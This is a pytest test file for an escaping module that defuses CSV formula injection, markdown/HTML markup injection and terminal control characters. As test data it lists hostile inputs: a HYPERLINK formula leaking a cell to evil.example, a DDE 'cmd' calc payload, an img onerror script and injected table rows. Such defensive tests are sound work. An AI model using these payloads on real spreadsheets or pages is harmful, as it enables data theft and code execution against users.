"""Issue 11 item 14: memdump.escaping, the one place CSV cells and markdown text are
escaped: no formula, no markup, no extra table cell or line."""

from __future__ import annotations

import pytest

from memdump.escaping import csv_cell, md_text, plain_text
from tests.helpers.markdown import render_table

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
MARKUP = [
    "vm|x",
    "a\nb\r\n| injected | row |",
    "<img src=x onerror=alert(1)>",
    "[click](http://evil.example)",
    "![i](http://evil.example/i.png)",
    "`code` **bold** _em_ ~~s~~ \\| \\\\",
    "http://evil.example www.evil.example",
    "&lt; &#60;",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_csv_cell_defuses_formulas(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["vm-web-01", "101", "", "a=b", "x@y", 42, -1.5, None])
def test_csv_cell_leaves_plain_values(value: object) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", MARKUP + HOSTILE)
def test_md_text_is_literal_in_a_table_cell(value: str) -> None:
    table = f"| a | b |\n|---|---|\n| {md_text(value)} | end |"
    rows = render_table(table)
    assert len(rows) == 2 and len(rows[1]) == 2 and rows[1][1] == "end"
    shown = rows[1][0]
    # Shown as the text itself, control characters as \xNN.
    expected = "".join(c if c.isprintable() else f"\\x{ord(c):02x}" for c in value).strip()
    assert shown == expected


@pytest.mark.parametrize(
    ("value", "shown"),
    [
        ("vm-web-01", "vm-web-01"),
        ("vm\x1b]0;pwned\x07x", "vm\\x1b]0;pwned\\x07x"),
        ("a\tb\nc\r", "a\\x09b\\x0ac\\x0d"),
        ("vm\x9bx", "vm\\x9bx"),
    ],
)
def test_plain_text_shows_control_characters(value: str, shown: str) -> None:
    assert plain_text(value) == shown
